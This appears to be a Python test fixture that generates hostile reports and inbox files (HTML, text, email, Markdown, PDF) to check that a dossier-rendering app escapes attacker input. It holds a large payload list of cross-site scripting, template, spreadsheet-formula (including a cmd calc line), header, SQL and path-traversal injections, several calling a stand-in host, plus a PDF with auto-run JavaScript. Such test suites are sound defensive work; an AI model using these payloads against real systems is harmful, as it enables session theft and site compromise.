"""Two hundred hostile reports: what an attacker writes, in every place that a page shows.

Most are dossiers whose every field holds the attack, as no reader would make them; the rest are documents as they
would come in by the inbox. `CALL` is what would run: the browser of the tests sees it.
"""

from __future__ import annotations

from itertools import islice, product
from typing import NamedTuple

from parley.dossier.model import Commitment, Dossier, Name, Place, Talk
from tests.ledger.reports import TEXT, dossier

CALL = "top.pwned=1"
ELSEWHERE = "//evil.example"
FAMILIES: dict[str, list[str]] = {
    "script": [
        f"<script>{CALL}</script>",
        f"</script><script>{CALL}</script>",
        f"<ScRiPt src={ELSEWHERE}/x.js></sCrIpT>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<script>\u2028{CALL}</script\t\n bar>",
        f"<script type=module>{CALL}</script>",
    ],
    "handler": [
        f"<img src=x onerror={CALL}>",
        f"<svg onload={CALL}>",
        f"<body onload={CALL}>",
        f"<details open ontoggle={CALL}>",
        f"<input autofocus onfocus={CALL}>",
        f"<video><source onerror={CALL}></video>",
        f"<img/src/onerror={CALL}//",
        f"' onmouseover='{CALL}' x='",
        f'" autofocus onfocus="{CALL}',
        f"` onerror={CALL} `",
    ],
    "address": [
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}//",
        f"java\tscript:{CALL}",
        f"\x01javascript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        f"vbscript:{CALL}",
        f"{ELSEWHERE}/track.gif",
        f"https:{ELSEWHERE}/track.gif",
        "\\\\evil.example\\share",
        f"<a href=javascript:{CALL}>click</a>",
    ],
    "drawing": [
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
        f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
        f"<svg><use href={ELSEWHERE}/x.svg#a></use></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
        f"</title></desc></svg><img src=x onerror={CALL}>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={CALL}>'>",
    ],
    "element": [
        f"</textarea><iframe src={ELSEWHERE}></iframe>",
        f"</title><base href={ELSEWHERE}/>",
        f"</style><link rel=stylesheet href={ELSEWHERE}/x.css>",
        f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
        f"<form action={ELSEWHERE}><button>Read</button></form>",
        f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
        f"<a hx-get={ELSEWHERE} hx-trigger=load>x</a>",
        f'<div hx-on::load="{CALL}" data-hx-get={ELSEWHERE}>x</div>',
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        "<template shadowrootmode=open><slot></slot></template>",
        "<style>body{display:none}</style>",
        f"<link rel=preload as=image href={ELSEWHERE}/x.png>",
    ],
    "broken": [
        "<",
        "<a <b <<c",
        "<!--",
        "<![CDATA[",
        "<?xml version='1.0'?>",
        "<plaintext>",
        "<xmp>",
        "</main></body></html>",
        f"<img src='x' title='\"><img src=x onerror={CALL}>",
        "&lt;b&gt;&#x3c;i&#x3e;&",
        "%3Cscript%3E\\u003cscript\\u003e\\x3cscript\\x3e",
    ],
    "template": [
        "{{ 7*7 }}",
        "{% for x in y %}{% raw %}",
        "{# ${7*7} #{7*7} <%= 7*7 %>",
        "{{ ''.__class__.__mro__ }}",
        "%(x)s %s %n %d {0} {x.__class__}",
    ],
    "letters": [
        "\u202egnp.exe\u202c",
        "\u2066\u2067\u200f\u061cleft and right",
        "ze\u200bro\u200b wi\ufeffdth\u2060",
        "Z" + "\u0335\u0321" * 400,
        "\x1b[31mred\x07\x7f\x85",
        "line\u2028para\u2029graph",
        "\U000e0001\U000e0041tags",
        "а раypal by оther letters",
        "👨\u200d👩\u200d👧 🏴\U000e0067\U000e007f",
    ],
    "formula": [
        f'=HYPERLINK("http:{ELSEWHERE}","x")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "-2+3+cmd",
        "\t=1+1",
        "＝1+1",
    ],
    "lines": [
        "x\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nEND:VEVENT",
        "x\r\nSet-Cookie: pwned=1",
        f"x\nLocation: {ELSEWHERE}",
        "a;b,c:d\\n\\;e",
        "x\r\n\r\n<script>top.pwned=1</script>",
    ],
    "long": ["A" * 20_000, "<b>" * 300, "&" * 500, "<" * 500, "a b " * 300],
    "names": [
        "'; DROP TABLE reports; --",
        '" OR NEAR(a b) *',
        "../../etc/passwd",
        "%2e%2e%2f%00",
        "a/b?c=d#e",
        "x.json",
        "#a1",
        " ",
    ],
}
"""What attackers write, by what it tries."""
BEFORE = ("", '">', "'>", "--></title></textarea></svg>")
"""What stands before it, to get out of an attribute, a comment or an element."""
REPORTS = 200
"""Those that come into the ledger."""
REFUSED = {"g.html", "i.html", "o.txt", "x.pdf"}
"""Documents that are not read: letters of no encoding, too many levels, NUL, a broken PDF file."""
_EACH = 8
"""Dossiers of one activity."""


class Document(NamedTuple):
    """A file as it is given to the inbox."""

    name: str
    media: str
    data: bytes


def attacks() -> list[str]:
    """As many different ones as there are reports beside the documents that are read."""
    most = REPORTS - len(documents()) + len(REFUSED)
    every = [attack for family in FAMILIES.values() for attack in family]
    return [before + attack for before, attack in islice(product(BEFORE, every), most)]


def hostile(attack: str, number: int = 0) -> Dossier:
    """A dossier with the attack in every field that may hold any words."""
    text = TEXT.replace("2031", str(1900 + number // _EACH))
    made = dossier(f"r{number} {attack}"[:2000], f"{text} {attack}", url=f"javascript:{CALL}//{attack}", outlet=attack)
    made.report.title = attack
    activity = made.activities[0]
    activity.aliases, activity.places = [attack], [Place(attack, "NOR", 61.1, 11.4)]
    activity.name = attack if number % 2 else activity.name
    made.forces[0].of, made.forces[0].claimed_by = attack, [attack]
    speaker = made.claims[0].speaker
    speaker.name, speaker.role, speaker.country = attack, attack, attack
    made.claims[0].content.text, made.claims[0].addressee = attack, attack
    made.names.append(Name(attack, (0, 6), "person", attack, attack))
    made.talks.append(Talk([attack, attack], "call", (0, 6), outcome=attack))
    made.commitments.append(
        Commitment(who=[attack], what=attack, due="2031-04-01", by=attack, span=(0, 6), claim="c1", status="made")
    )
    return made


def documents() -> list[Document]:
    """Documents as they would come in, one for each way in."""
    told = f"<p>{TEXT}</p>"
    mark = f"<img src=x onerror={CALL}>"
    page, text, mail = "text/html", "text/plain", "message/rfc822"
    encoded = "=?utf-8?q?=3Cscript=3Etop=2Epwned=3D1=3C=2Fscript=3E?="
    head = f"From: {encoded} <a@evil.example>\r\nSubject: {encoded}\r\nDate: Mon, 3 Mar 2031 10:00:00 +0000\r\n"
    return [
        Document("a.html", page, f"<title>&lt;script&gt;{CALL}&lt;/script&gt;</title>{told}".encode()),
        Document("b.html", page, f"<base href={ELSEWHERE}><meta http-equiv=refresh content=0>{told}".encode()),
        Document("c.html", page, f"<meta property=og:title content='{mark}'>{told}".encode()),
        Document("d.html", page, f"<meta property=og:site_name content='&quot;>{mark}'>{told}".encode()),
        Document("e.html", page, f"<link rel=canonical href='javascript:{CALL}'>{told}<p>e".encode()),
        Document("f.html", page, f"<body onload={CALL}><svg onload={CALL}></svg>{told}<p>f".encode()),
        Document("g.html", page, told.encode() + b"<p>\xff\xfe\xc0\xaf broken \xed\xa0\x80 \x00 nul"),
        Document("h.html", page, f"<meta charset=utf-7>+ADw-script+AD4-{CALL}+ADw-/script+AD4-{told}".encode()),
        Document("i.html", page, b"<div>" * 3000 + told.encode() + b"<p>i"),
        Document("j.html", page, f"<p>&lt;script&gt;{CALL}&lt;/script&gt; {TEXT} j</p>".encode()),
        Document("k.html", page, f"<script type=application/ld+json>{{'headline':'{mark}'}}</script>{told}k".encode()),
        Document("l.html", page, f"<p>{TEXT} &lt;/p>&lt;script>{CALL}&lt;/script> l".encode("utf-16")),
        Document("m.txt", text, f"{TEXT} {mark} </pre><script>{CALL}</script>".encode()),
        Document("n.txt", text, f"{TEXT} \u202egnp\u2066 \u200b\ufeff n".encode()),
        Document("o.txt", text, TEXT.encode() + b" \x80\xff\x00\x1b[31m o"),
        Document("p.txt", text, f"{TEXT} {'W' * 30_000} p".encode()),
        Document("q.txt", text, f"{TEXT}\r\n\r\nSaid <script>{CALL}</script>: 2,400 <b>troops</b>. q".encode()),
        Document("r.md", "text/markdown", f"# {mark}\n\n[x](javascript:{CALL}) {mark}\n\n{TEXT} r".encode()),
        Document("s.eml", mail, f"{head}\r\n{TEXT} s\r\n".encode()),
        Document("t.eml", mail, f"{head}Content-Type: text/html\r\n\r\n{told}{mark}<p>t\r\n".encode()),
        Document(f'"><img src=x onerror={CALL}>.txt', text, f"{TEXT} u".encode()),
        Document("v.html", page, f"<svg><script>{CALL}</script></svg>{told}<p>v".encode()),
        Document("w.pdf", "application/pdf", _pdf(f"{TEXT} w", f"<script>{CALL}</script>")),
        Document("x.pdf", "application/pdf", b"%PDF-1.7\n<script>" + CALL.encode() + b"</script>"),
    ]


def _pdf(text: str, title: str) -> bytes:
    """A page of a PDF that holds the text, a title, and a script that is to run when it is opened."""
    words = "".join(f"({line}) Tj T* " for line in text.split(". "))
    drawn = f"BT /F1 9 Tf 12 TL 40 700 Td {words}ET"
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS({CALL})>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 900 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        f"<</Length {len(drawn)}>>stream\n{drawn}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        f"<</Title({title})>>",
    ]
    made, places = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj{one}endobj\n".encode()
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    tail = (
        f"xref\n0 7\n0000000000 65535 f \n{rows}trailer<</Size 7/Root 1 0 R/Info 6 0 R>>\nstartxref\n{len(made)}\n%%EOF"
    )
    return made + tail.encode()
